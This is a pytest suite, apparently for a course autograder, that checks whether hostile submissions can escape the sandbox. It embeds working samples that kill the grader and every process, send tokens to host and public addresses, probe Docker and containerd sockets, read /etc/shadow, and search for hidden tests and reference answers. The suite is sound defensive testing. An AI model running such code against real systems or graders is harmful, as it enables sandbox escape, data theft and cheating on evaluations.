"""Escape: a submission tries to leave, stop or see past its sandbox.

Exits and kills (``sys.exit``, ``os._exit``, signals to the parent, to pid 1, to every process),
the network (a listener of this test on the host, outside addresses, DNS, Unix sockets of the
host), the host's files (hidden tests, reference code, the grader's trusted folder) and the
grader's own packages. What the hostile code saw comes back through ``probe``.
"""

from __future__ import annotations

import os
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from .kit import SECRETS, assert_scores, hostile, outputs, probe

pytestmark = pytest.mark.slow

STUB_FETCH = '''
def get_fetch():
    raise NotImplementedError("problem 'fetch': implement get_fetch")
'''


# --- 7. sys.exit -----------------------------------------------------------------------------------

SYS_EXIT = '''
import sys


def run_softmax(values, temperature=1.0, log=False):
    sys.exit(0)


def get_fetch_many():
    raise SystemExit("graded: 100%")
''' + STUB_FETCH


def test_sys_exit_in_an_adapter_fails_that_call_only(attack, tmp_path: Path, sandbox: str) -> None:
    graded = attack(tmp_path, {"tests/adapters.py": attack.kit.adapters(hostile(SYS_EXIT))}, sandbox)
    assert_scores(graded, softmax=0, fetch=0)
    assert all("SystemExit" in o for o in outputs(graded, "softmax"))
    assert not graded.scored.anomalies  # the worker survived its SystemExit: canaries ran


# --- 8. os._exit -----------------------------------------------------------------------------------


def test_os_exit_at_import_fails_everything_and_says_so(attack, tmp_path: Path, sandbox: str) -> None:
    graded = attack(tmp_path, {"tests/adapters.py": attack.kit.adapters(hostile("import os\nos._exit(0)\n"))}, sandbox)
    assert_scores(graded, softmax=0, word_counts=0, running_mean=0, fetch=0)
    seen = [o for p in ("softmax", "word_counts", "running_mean", "fetch") for o in outputs(graded, p)]
    assert len(seen) == 28 and all("died" in o or "not run" in o for o in seen), seen
    assert sum("died during the call" in o for o in seen) >= 3  # then the carrier gives up: "not run"
    assert any("canary" in a for a in graded.scored.anomalies) and not graded.scored.tampered


OS_EXIT_IN_CALL = '''
import os


def get_fetch_many():
    os._exit(0)
''' + STUB_FETCH


def test_os_exit_in_a_call_fails_that_call_only(attack, tmp_path: Path, sandbox: str) -> None:
    graded = attack(tmp_path, {"tests/adapters.py": attack.kit.adapters(hostile(OS_EXIT_IN_CALL))}, sandbox)
    assert_scores(graded, fetch=0)
    assert sum("died during the call" in o for o in outputs(graded, "fetch")) == 2  # the two fetch_many tests


# --- 9. killing the parent, pid 1, everything -------------------------------------------------------

KILL_PARENT = '''
import os, signal


def get_fetch_many():
    for kill in (lambda: os.kill(@HOST_PID@, signal.SIGKILL),  # the grader's pid on the host
                 lambda: os.kill(os.getppid(), signal.SIGKILL),
                 lambda: os.kill(1, signal.SIGKILL),
                 lambda: os.kill(-1, signal.SIGKILL),  # every process this user may signal
                 lambda: os.killpg(0, signal.SIGKILL)):  # our own process group
        try:
            kill()
        except OSError:
            pass
    signal.pthread_kill(threading.main_thread().ident, signal.SIGKILL)


import threading
''' + STUB_FETCH


def test_killing_the_parent_pid_1_or_everything_only_kills_the_sandbox(attack, tmp_path: Path, sandbox: str) -> None:
    code = hostile(KILL_PARENT, HOST_PID=os.getpid())
    graded = attack(tmp_path, {"tests/adapters.py": attack.kit.adapters(code)}, sandbox)
    assert_scores(graded, fetch=0)
    assert sum("died during the call" in o for o in outputs(graded, "fetch")) == 2
    assert not graded.scored.anomalies  # later workers started fine: the canaries ran


# --- 16. network ------------------------------------------------------------------------------------


class Listener:
    """TCP (loopback and every interface) and UDP listeners on the host that record any contact."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self.sockets: list[socket.socket] = []
        self.ports: dict[str, int] = {}
        for name, kind, host in (("tcp_lo", socket.SOCK_STREAM, "127.0.0.1"), ("tcp_any", socket.SOCK_STREAM, "0.0.0.0"),
                                 ("udp_lo", socket.SOCK_DGRAM, "127.0.0.1"), ("udp_any", socket.SOCK_DGRAM, "0.0.0.0")):
            s = socket.socket(socket.AF_INET, kind)
            s.bind((host, 0))
            if kind == socket.SOCK_STREAM:
                s.listen(8)
            s.settimeout(0.2)
            self.ports[name] = s.getsockname()[1]
            self.sockets.append(s)
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            for s in self.sockets:
                try:
                    if s.type == socket.SOCK_STREAM:
                        conn, peer = s.accept()
                        conn.settimeout(0.5)
                        try:
                            data = conn.recv(1024)
                        except OSError:
                            data = b""
                        self.heard.append(f"tcp from {peer}: {data!r}")
                        conn.close()
                    else:
                        data, peer = s.recvfrom(1024)
                        self.heard.append(f"udp from {peer}: {data!r}")
                except (TimeoutError, BlockingIOError):
                    continue
                except OSError:
                    return

    def close(self) -> None:
        self.stop.set()
        self.thread.join(5)
        for s in self.sockets:
            s.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    ear = Listener()
    yield ear
    ear.close()


def host_addresses() -> list[str]:
    """Every IPv4 address of this host (loopback, docker bridges, the outside interface)."""
    out = subprocess.run(["ip", "-4", "-o", "addr"], capture_output=True, text=True, check=False).stdout
    found = {line.split()[3].split("/")[0] for line in out.splitlines() if len(line.split()) > 3}
    return sorted(found | {"127.0.0.1"})


def host_abstract_sockets(limit: int = 12) -> list[str]:
    """Names of abstract Unix sockets on the host (containerd shims and the like)."""
    try:
        lines = Path("/proc/net/unix").read_text().splitlines()[1:]
    except OSError:
        return []
    names = sorted({ln.split()[-1] for ln in lines if len(ln.split()) >= 8 and ln.split()[-1].startswith("@")})
    return names[:limit]


NETWORK = '''
import os, socket


def _lmatk_network():
    seen = {}

    def tcp(host, port):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(0.5)
        try:
            s.connect((host, port))
            s.sendall(b"exfiltrated " + @TOKEN@.encode())
            return "CONNECTED"
        except OSError as e:
            return "refused:" + str(e.errno)
        finally:
            s.close()

    def udp(host, port):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            s.sendto(b"exfiltrated " + @TOKEN@.encode(), (host, port))
            return "sent"
        except OSError as e:
            return "refused:" + str(e.errno)
        finally:
            s.close()

    for host in @HOSTS@:
        seen["tcp " + host] = [tcp(host, @PORTS@["tcp_lo"]), tcp(host, @PORTS@["tcp_any"])]
        seen["udp " + host] = [udp(host, @PORTS@["udp_lo"]), udp(host, @PORTS@["udp_any"])]
    for host in ("1.1.1.1", "8.8.8.8", "93.184.215.14"):
        seen["tcp " + host] = [tcp(host, 53), tcp(host, 443)]
        seen["udp " + host] = [udp(host, 53)]
    for name in ("example.com", "pypi.org", "localhost"):
        try:
            seen["dns " + name] = sorted({a[4][0] for a in socket.getaddrinfo(name, 80)})
        except OSError as e:
            seen["dns " + name] = "failed:" + str(e.errno)
    for path in ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
                 "/run/dbus/system_bus_socket"] + ["\\0" + n[1:] for n in @ABSTRACT@]:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(0.5)
        try:
            s.connect(path)
            seen["unix " + repr(path)] = "CONNECTED"
        except OSError as e:
            seen["unix " + repr(path)] = "refused:" + str(e.errno)
        finally:
            s.close()
    try:
        seen["interfaces"] = sorted(os.listdir("/sys/class/net"))
    except OSError:
        seen["interfaces"] = "unreadable"
    return seen


def get_fetch_many():
    _lmatk_report(_lmatk_network())
''' + STUB_FETCH


def test_no_network_reaches_the_host_or_the_outside(attack, tmp_path: Path, sandbox: str, listener: Listener) -> None:
    mark = os.urandom(6).hex()
    code = hostile(NETWORK, TOKEN=mark, HOSTS=host_addresses(), PORTS=listener.ports, ABSTRACT=host_abstract_sockets())
    graded = attack(tmp_path, {"tests/adapters.py": attack.kit.adapters(code)}, sandbox, limits={"test_timeout_s": 20})
    assert_scores(graded, fetch=0)
    seen = probe(graded)
    assert not listener.heard, f"the host listener was reached: {listener.heard}"
    connected = {k: v for k, v in seen.items() if "CONNECTED" in str(v)}
    assert not connected, connected
    # DNS resolves nothing from outside (localhost may come from the sandbox's own /etc/hosts).
    assert all(isinstance(v, str) and v.startswith("failed") for k, v in seen.items() if k in ("dns example.com", "dns pypi.org"))
    # Outside addresses are unreachable (no route), not merely filtered.
    sent_out = [k for k, v in seen.items() if k.startswith("udp ") and not k.startswith("udp 127.") and "sent" in v]
    assert not sent_out, sent_out
    assert seen["interfaces"] in (["lo"], "unreadable"), seen["interfaces"]


# --- 17. reading hidden tests and reference code from disk -----------------------------------------

READ_HIDDEN = '''
import os, re

_NAMES = re.compile(r"^(test_hidden.*|_answers\\.py|unit\\.yaml|course\\.yaml|test_lmcourse_canary\\.py|"
                    r"canary\\.py|carrier\\.json|report\\.json|session\\.log|results\\.json|lmcourse-grade-.*|"
                    r"reference|assignments|minicourse|hidden)$")
_TEXT = [s.encode() for s in @SECRETS@]
_SKIP_TEXT = ("/opt/lmcourse", "/usr", "/lib", "/bin", "/sbin", "/proc", "/sys", "/dev")
_MINE = ("/lmcourse/code/mini_toy", "/lmcourse/code/tests/adapters.py")


def _lmatk_search():
    names, texts, files = [], [], 0
    for top, dirs, filenames in os.walk("/", onerror=lambda e: None):
        if top.startswith(("/proc", "/sys", "/dev")):
            dirs[:] = []
            continue
        for name in dirs + filenames:
            path = os.path.join(top, name)
            if _NAMES.match(name) and not path.startswith(_MINE):
                names.append(path)
        if top.startswith(_SKIP_TEXT) or top.startswith(_MINE):
            continue
        for name in filenames:
            path = os.path.join(top, name)
            if path.startswith(_MINE):
                continue
            try:
                if os.path.getsize(path) < 2**20:
                    files += 1
                    with open(path, "rb") as f:
                        data = f.read()
                    texts += [path + ": " + s.decode() for s in _TEXT if s in data]
            except OSError:
                pass
    probes = {}
    for path in ["/work", "/root", "/home", "/etc/shadow", "/proc/1/environ", "/proc/1/cmdline",
                 "/run/lmcourse-sandbox", "/var/lib/docker", "/tmp/pytest-of-root", @TRUSTED@, @HIDDEN@]:
        try:
            probes[path] = sorted(os.listdir(path))[:8] if os.path.isdir(path) else open(path, "rb").read(64).decode("latin-1")
        except OSError as e:
            probes[path] = "!" + str(e.errno)
    trusted = [p for p in names if p.endswith("lmcourse-grade-") or "lmcourse-grade-" in p]
    parents = {}
    for p in trusted:
        root = p.split("lmcourse-grade-")[0] + "lmcourse-grade-" + p.split("lmcourse-grade-")[1].split("/")[0]
        for sub in ("", "/trusted", "/trusted/tests", "/trusted/tests/hidden", "/student"):
            try:
                parents[root + sub] = sorted(os.listdir(root + sub))
            except OSError as e:
                parents[root + sub] = "!" + str(e.errno)
    return {"names": names[:40], "texts": texts[:20], "files_read": files, "probes": probes, "trusted": parents}


_FOUND = None


def get_fetch_many():
    global _FOUND
    _FOUND = _FOUND or _lmatk_search()
    _lmatk_report(_FOUND)
''' + STUB_FETCH


def test_hidden_tests_and_reference_code_are_not_on_the_sandbox_disk(attack, kit, tmp_path: Path, sandbox: str) -> None:
    trusted = str(kit.unit().tests_dir / "hidden")  # where the hidden tests lie on the host
    code = hostile(READ_HIDDEN, SECRETS=list(SECRETS), TRUSTED=str(kit.unit().course.root), HIDDEN=trusted)
    graded = attack(tmp_path, {"tests/adapters.py": attack.kit.adapters(code)}, sandbox, limits={"test_timeout_s": 30})
    assert_scores(graded, fetch=0)
    found = probe(graded)
    assert found["files_read"] > 10, "the search read nothing: the probe is broken"
    assert not found["texts"], f"hidden-test or staff text readable in the sandbox: {found['texts']}"
    # Names: the staff package marker the worker needs (tests/hidden/__init__.py's folder), and the
    # grader's work folder, where the fixtures are mounted at their host path (checked below).
    # Deep inside third-party packages of the grader's venv or the system's /usr (the local
    # backend shows the host's, read-only) "reference" is someone else's word (torch's
    # ao/nn/quantized/reference, /usr/share/doc/*/reference); a top-level package of that name
    # in the venv would be a leak.
    def third_party(path: str) -> bool:
        parts = Path(path).parts
        return path.startswith("/usr/") or (path.startswith("/opt/lmcourse/") and len(parts) > 5 and "lmcourse" not in parts[4])

    unexpected = [p for p in found["names"] if p != "/lmcourse/code/tests/hidden"
                  and not Path(p).name.startswith("lmcourse-grade-") and not third_party(p)]
    assert not unexpected, unexpected
    for path, seen in found["probes"].items():
        if not path.startswith("/proc/1/"):  # the sandbox's own init: visible, and nothing secret
            assert seen == [] or (isinstance(seen, str) and seen.startswith("!")), f"{path} is visible in the sandbox: {seen}"
    # The trusted folder's path shows (fixtures are mounted at their host path) but holds only them.
    for path, listing in found["trusted"].items():
        assert listing in (["fixtures"], ["trusted"]) or str(listing).startswith("!"), f"{path}: {listing}"
    shown = str(found)
    assert not any(s in shown for s in SECRETS)


# --- 18. importing the reference or the grader ------------------------------------------------------

IMPORTS = '''
import importlib, pkgutil, sys


def _lmatk_imports():
    seen = {}
    for name in ("reference", "reference.toy", "toy", "toy._answers", "toy.stats", "lmcourse", "lmcourse.grader",
                 "lmcourse.grader.grading.canary", "lmcourse.grader.grading.engine", "tests.hidden",
                 "tests.hidden.test_hidden_stats", "tests.public.test_stats", "tests.test_lmcourse_canary",
                 "test_lmcourse_canary", "assignments", "_lmcourse_worker"):
        try:
            module = importlib.import_module(name)
            seen[name] = getattr(module, "__file__", None) or str(list(getattr(module, "__path__", [])))
        except BaseException as e:
            seen[name] = "!" + type(e).__name__
    seen["tests.hidden holds"] = [m.name for m in pkgutil.iter_modules(importlib.import_module("tests.hidden").__path__)]
    try:  # the venv's editable-install finder knows where the toolkit lies on the host
        finder = importlib.import_module("__editable___lmcourse_0_1_0_finder")
        finder.install()
        importlib.invalidate_caches()
        seen["via finder"] = importlib.import_module("lmcourse.grader").__file__
    except BaseException as e:
        seen["via finder"] = "!" + type(e).__name__
    seen["path"] = sys.path
    return seen


def get_fetch_many():
    _lmatk_report(_lmatk_imports())
''' + STUB_FETCH


def test_reference_tests_and_grader_cannot_be_imported(attack, tmp_path: Path, sandbox: str) -> None:
    graded = attack(tmp_path, {"tests/adapters.py": attack.kit.adapters(hostile(IMPORTS))}, sandbox)
    assert_scores(graded, fetch=0)
    seen = probe(graded)
    for name in ("reference", "reference.toy", "toy", "toy._answers", "toy.stats", "tests.hidden.test_hidden_stats",
                 "tests.public.test_stats", "tests.test_lmcourse_canary", "test_lmcourse_canary", "assignments"):
        assert str(seen[name]).startswith("!"), f"{name} imports in the sandbox: {seen[name]}"
    assert seen["tests.hidden holds"] == [], "hidden test modules are importable in the sandbox"
    # The toolkit is public code anyway; here it is not even reachable (an editable install).
    for name in ("lmcourse", "lmcourse.grader", "lmcourse.grader.grading.canary", "via finder"):
        assert str(seen[name]).startswith("!") or str(seen[name]).startswith("/opt/lmcourse"), f"{name}: {seen[name]}"
    assert not any(p.startswith(("/work", "/root")) for p in seen["path"]), seen["path"]
